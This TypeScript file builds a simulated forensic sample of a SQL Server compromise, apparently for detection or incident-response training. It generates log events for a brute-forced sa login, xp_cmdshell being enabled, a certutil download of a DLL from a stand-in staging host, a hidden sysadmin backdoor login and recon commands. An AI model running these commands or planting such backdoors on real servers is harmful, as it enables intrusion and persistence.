/**
 * host-maggie: SQL01.corp.example.com, Windows Server 2016, SQL Server 2017 default instance,
 * UTC+1. A brute-forced `sa`, xp_cmdshell switched on, a Maggie-like ESP registered from
 * C:\ProgramData\ExtendedProcedure.dll and used to run commands. Every time below is UTC; the
 * ERRORLOG and SQL exports show them in local time (+1:00).
 */
import { factsOf, HostBuilder } from '../lib/host-builder.js';
import { samplePath, type HostConfig } from '../lib/host-config.js';
import * as sql from '../lib/sql-messages.js';
import { hashesField, placeholderFacts } from '../lib/win-events.js';
import {
  binnLoad, dll, HOUR, layout, MIN, ms, nightlyBackups, placeBinn, routineLogins, sqlExports, sqlservrStarted, windowsNoise, type Background, type DllBytes,
} from './common.js';

export const MAGGIE_CONFIG: HostConfig = {
  id: 'host-maggie',
  netbios: 'SQL01',
  fqdn: 'SQL01.corp.example.com',
  domain: 'CORP',
  instance: 'MSSQLSERVER',
  instanceFolder: 'MSSQL14.MSSQLSERVER',
  sql: {
    bannerProduct: 'Microsoft SQL Server 2017 (RTM) - 14.0.1000.169 (X64) ',
    bannerBuildDate: 'Aug 22 2017 17:04:49 ',
    bannerCopyright: 'Copyright (C) 2017 Microsoft Corporation',
    bannerEdition: 'Standard Edition (64-bit) on Windows Server 2016 Standard 10.0 <X64> (Build 14393: ) (Hypervisor)',
    productVersion: '14.0.1000.169',
    edition: 'Standard Edition (64-bit)',
    xpVersion: '2017.140.1000',
    resourceVersion: '14.00.1000',
  },
  utcOffsetMinutes: 60,
  timeZoneText: '-60 W. Europe Standard Time',
  hasSysmon: true,
  domainSid: 'S-1-5-21-3623811015-3361044348-30300820',
};

/** Key facts of the story (UTC), also printed in samples/README.md. */
export const MAGGIE_STORY = {
  attackerIp: '203.0.113.45',
  secondIp: '198.51.100.77',
  stagingUrl: 'http://198.51.100.23/x64.dat',
  dllPath: 'C:\\ProgramData\\ExtendedProcedure.dll',
  procedure: 'maggie',
  backdoorLogin: 'sqladm_svc',
  times: {
    previousStart: '2026-03-02T06:00:14.530Z',
    previousStop: '2026-03-09T05:58:02.110Z',
    boot: '2026-03-09T06:00:41.000Z',
    sqlStart: '2026-03-09T06:02:11.270Z',
    bruteForceStart: '2026-03-11T01:12:03.410Z',
    bruteForceEnd: '2026-03-11T01:19:47.880Z',
    saLogin: '2026-03-11T01:19:52.310Z',
    xpCmdshellOn: '2026-03-11T01:20:31.550Z',
    backdoorLoginCreated: '2026-03-11T01:21:05.127Z',
    dllDownloaded: '2026-03-11T01:22:40.200Z',
    espRegistered: '2026-03-11T01:24:10.553Z',
    espFirstLoad: '2026-03-11T01:24:31.020Z',
    whoami: '2026-03-11T01:25:02.660Z',
    netUser: '2026-03-11T01:27:45.105Z',
    backdoorLoginUsed: '2026-03-12T22:41:10.700Z',
    ipconfig: '2026-03-12T22:42:03.330Z',
    collected: '2026-03-13T09:30:00.000Z',
  },
} as const;

export function buildHostMaggie(dlls: DllBytes): Map<string, Uint8Array> {
  const cfg = MAGGIE_CONFIG;
  const S = MAGGIE_STORY;
  const T = (k: keyof typeof S.times): number => ms(S.times[k]);
  const b = new HostBuilder(cfg, 0x5a1501);
  const bg: Background = { databases: ['ERP', 'ERP_Archive'], appServerIp: '10.10.20.31', appLogin: 'erp_app', dbaIp: '10.10.20.15', dbaLogin: 'CORP\\dba.jsmith', auditSuccess: true };
  const admin = { user: 'dba.jsmith', sid: `${cfg.domainSid}-1187`, ip: '10.10.20.15' };

  // --- previous run of the service (ERRORLOG.1) ---
  b.startup(T('previousStart'), 2184, 1968, '2/23/2026 4:10:33 AM (local) 2/23/2026 3:10:33 AM (UTC)', bg.databases);
  sqlservrStarted(b, T('previousStart'));
  binnLoad(b, dlls, T('previousStart') + 52_410, 'spid52', 'xpstar.dll', 'xp_instance_regread');
  binnLoad(b, dlls, T('previousStart') + 53_020, 'spid52', 'xpsqlbot.dll', 'xp_qv');
  binnLoad(b, dlls, T('previousStart') + 3 * HOUR + 11 * MIN, 'spid58', 'xplog70.dll', 'xp_msver');
  nightlyBackups(b, bg, T('previousStart'), T('previousStop'));
  routineLogins(b, bg, T('previousStart') + HOUR, T('previousStop') - HOUR);
  b.shutdown(T('previousStop'));

  // --- reboot, current run (ERRORLOG) ---
  b.startup(T('sqlStart'), 2216, 2184, `3/9/2026 6:58:${'07'} AM (local) 3/9/2026 5:58:07 AM (UTC)`, bg.databases);
  sqlservrStarted(b, T('sqlStart'));
  const svc = b.sqlservr!;
  binnLoad(b, dlls, T('sqlStart') + 51_880, 'spid52', 'xpstar.dll', 'xp_instance_regread');
  binnLoad(b, dlls, T('sqlStart') + 52_300, 'spid52', 'xpsqlbot.dll', 'xp_qv');
  binnLoad(b, dlls, ms('2026-03-09T08:14:22.450Z'), 'spid57', 'xplog70.dll', 'xp_msver');
  for (const m of sql.dbghelpTrap()) b.sql(ms('2026-03-10T03:12:40.750Z'), 'spid61', m);
  nightlyBackups(b, bg, T('sqlStart'), T('collected'));
  routineLogins(b, bg, T('sqlStart') + HOUR, T('collected'));

  // --- the intrusion ---
  const users = ['sa', 'sa', 'sa', 'admin', 'sa', 'sa', 'sqladmin', 'sa', 'sa', 'root', 'sa', 'sa'];
  const start = T('bruteForceStart');
  const end = T('bruteForceEnd');
  const attempts = 58;
  for (let i = 0; i < attempts; i++) {
    const t = start + Math.round(((end - start) * i) / (attempts - 1));
    const u = users[i % users.length]!;
    b.sql(t, 'Logon', sql.loginFailed(u, u === 'sa' ? 8 : 5, S.attackerIp));
  }
  b.sql(T('saLogin'), 'Logon', sql.loginSucceeded('sa', S.attackerIp, false));
  b.sql(T('xpCmdshellOn') - 740, 'spid63', sql.configChanged('show advanced options', 0, 1));
  b.sql(T('xpCmdshellOn'), 'spid63', sql.configChanged('xp_cmdshell', 0, 1));

  const svcSubject = b.serviceSubject;
  const certutilCmd = `certutil -urlcache -split -f ${S.stagingUrl} ${S.dllPath}`;
  const cmd1 = b.process(T('dllDownloaded'), {
    pid: 5120, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: `cmd.exe /c ${certutilCmd}`, currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'Windows Command Processor', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'Cmd.Exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\cmd.exe')), parent: svc, subject: svcSubject, label: 'S-1-16-12288',
  });
  b.process(T('dllDownloaded') + 45, {
    pid: 4388, image: 'C:\\Windows\\System32\\certutil.exe', commandLine: certutilCmd, currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'CertUtil.exe', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'CertUtil.exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\certutil.exe')), parent: cmd1, subject: svcSubject, label: 'S-1-16-12288',
  });

  const maggieBytes = dll(dlls, 'maggie-like.dll');
  b.espLoad(T('espFirstLoad'), 'spid63', S.dllPath, '1.0.0', S.procedure, { path: S.dllPath, facts: factsOf(maggieBytes), desc: 'Extended stored procedure (espy sample, inert)', original: 'maggie-like.dll', fileVersion: '1.0.0.1', signed: false });
  b.process(T('whoami'), {
    pid: 3312, image: 'C:\\Windows\\System32\\whoami.exe', commandLine: 'whoami', currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'whoami - displays logged on user information', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'whoami.exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\whoami.exe')), parent: svc, subject: svcSubject, label: 'S-1-16-12288',
  });
  const cmd2 = b.process(T('netUser'), {
    pid: 2904, image: 'C:\\Windows\\System32\\cmd.exe', commandLine: 'cmd.exe /c net user', currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'Windows Command Processor', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'Cmd.Exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\cmd.exe')), parent: svc, subject: svcSubject, label: 'S-1-16-12288',
  });
  const net = b.process(T('netUser') + 31, {
    pid: 4020, image: 'C:\\Windows\\System32\\net.exe', commandLine: 'net  user', currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'Net Command', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'net.exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\net.exe')), parent: cmd2, subject: svcSubject, label: 'S-1-16-12288',
  });
  b.process(T('netUser') + 58, {
    pid: 4236, image: 'C:\\Windows\\System32\\net1.exe', commandLine: 'C:\\Windows\\system32\\net1  user', currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'Net Command', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'net1.exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\net1.exe')), parent: net, subject: svcSubject, label: 'S-1-16-12288',
  });

  // the backdoor login comes back from a second address the next night
  b.sql(T('backdoorLoginUsed'), 'Logon', sql.loginSucceeded(S.backdoorLogin, S.secondIp, false));
  b.process(T('ipconfig'), {
    pid: 6012, image: 'C:\\Windows\\System32\\ipconfig.exe', commandLine: 'ipconfig /all', currentDirectory: 'C:\\Windows\\system32\\', user: svc.user, logonId: svcSubject.logonId, integrity: 'High',
    fileVersion: '10.0.14393.0 (rs1_release.160715-1616)', description: 'IP Configuration Utility', product: 'Microsoft® Windows® Operating System', company: 'Microsoft Corporation', originalFileName: 'ipconfig.exe',
    hashes: hashesField(placeholderFacts('C:\\Windows\\System32\\ipconfig.exe')), parent: svc, subject: svcSubject, label: 'S-1-16-12288',
  });

  windowsNoise(b, T('previousStart'), T('collected'), [T('previousStart') - 95_000, T('boot')], admin);

  const placed = new Map<string, Uint8Array>();
  placeBinn(cfg, dlls, placed);
  placed.set(samplePath(S.dllPath), maggieBytes);
  const exports = sqlExports(cfg, {
    esps: [{ name: S.procedure, dll: S.dllPath, created: T('espRegistered'), msShipped: false }],
    principals: [
      { name: 'erp_app', type: 'SQL_LOGIN', created: '2024-11-05 14:02:51.330' },
      { name: 'CORP\\svc_erp_reports', type: 'WINDOWS_LOGIN', created: '2025-01-20 09:41:12.907' },
      { name: S.backdoorLogin, type: 'SQL_LOGIN', created: T('backdoorLoginCreated') },
    ],
    sysadmins: [[S.backdoorLogin, 'SQL_LOGIN']],
    config: { 'show advanced options': 1, 'xp_cmdshell': 1 },
  });
  return layout(b, { app: 48211, system: 23940, security: 1_184_532, sysmon: 311_907 }, placed, exports);
}
